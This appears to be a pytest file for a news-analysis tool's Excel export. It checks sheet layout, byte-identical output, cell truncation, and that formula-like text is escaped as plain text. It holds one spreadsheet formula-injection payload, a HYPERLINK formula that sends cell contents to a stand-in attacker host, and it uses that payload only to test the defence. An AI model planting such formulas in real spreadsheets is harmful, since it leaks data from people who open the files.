"""tables.xlsx: one sheet per table, text that never becomes a formula, the same bytes each time."""

from __future__ import annotations

import zipfile

import openpyxl

from analysis.article import Article
from analysis.report.workbook import (
    MAX_CELL_CHARS,
    REPORT_SHEETS,
    write_analysis_workbook,
    write_workbook,
)
from analysis.tables import Analysis, records_to_frame

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _analysis() -> Analysis:
    text = 'The mayor said "=1+2 is fine." Others disagreed.'
    quote = {"quote_id": "Q1", "kind": "direct", "text": HOSTILE, "start": 16, "end": 30,
             "speaker": "@mayor", "source_id": "S1", "polarity": -0.25}  # fmt: skip
    source = {"source_id": "S1", "name": "+Mayor", "type": "official", "named": True,
              "n_quotes": 1, "n_words": 4, "share_of_voice": 1.0, "polarity": -0.25}  # fmt: skip
    sentence = {"sentence_id": 1, "paragraph_id": 1, "start": 0, "end": 31,
                "text": "-1 said\x07 the mayor", "polarity": 0.0, "subjectivity": 0.0}  # fmt: skip
    return Analysis(
        article=Article(id="a", text=text),
        sentences=records_to_frame("sentences", [sentence]),
        entities=records_to_frame("entities", []),
        quotes=records_to_frame("quotes", [quote]),
        sources=records_to_frame("sources", [source]),
    )


def test_one_sheet_per_table_with_the_contract_columns(tmp_path):
    path = write_analysis_workbook(_analysis(), tmp_path / "tables.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == list(REPORT_SHEETS)
    quotes = book["quotes"]
    header = [cell.value for cell in quotes[1]]
    assert header[:3] == ["quote_id", "kind", "text"]
    assert quotes.freeze_panes == "A2"
    assert book["entities"].max_row == 1  # an empty table still has its header


def test_hostile_cells_stay_text_and_numbers_stay_numbers(tmp_path):
    path = write_analysis_workbook(_analysis(), tmp_path / "tables.xlsx")
    book = openpyxl.load_workbook(path)
    row = {c.value: v for c, v in zip(book["quotes"][1], book["quotes"][2], strict=True)}
    assert row["text"].value == "'" + HOSTILE and row["text"].data_type == "s"
    assert row["speaker"].value == "'@mayor"
    assert row["polarity"].value == -0.25 and row["polarity"].data_type == "n"
    assert row["start"].value == 16
    header, values = book["sources"][1], book["sources"][2]
    sources = {c.value: v.value for c, v in zip(header, values, strict=True)}
    assert sources["name"] == "'+Mayor" and sources["named"] is True
    sentence = [cell.value for cell in book["sentences"][2]]
    assert "'-1 said\ufffd the mayor" in sentence  # a control character XML cannot hold
    # No sheet holds a formula at all.
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_same_tables_give_the_same_bytes(tmp_path):
    first = write_analysis_workbook(_analysis(), tmp_path / "a.xlsx").read_bytes()
    second = write_analysis_workbook(_analysis(), tmp_path / "b.xlsx").read_bytes()
    assert first == second


def test_a_cell_longer_than_excel_allows_is_cut_and_says_so(tmp_path):
    path = write_workbook([("t", ["text"], [["x" * (MAX_CELL_CHARS + 10)]])], tmp_path / "t.xlsx")
    value = openpyxl.load_workbook(path)["t"]["A2"].value
    assert len(value) == MAX_CELL_CHARS and value.endswith("Excel cell holds]")
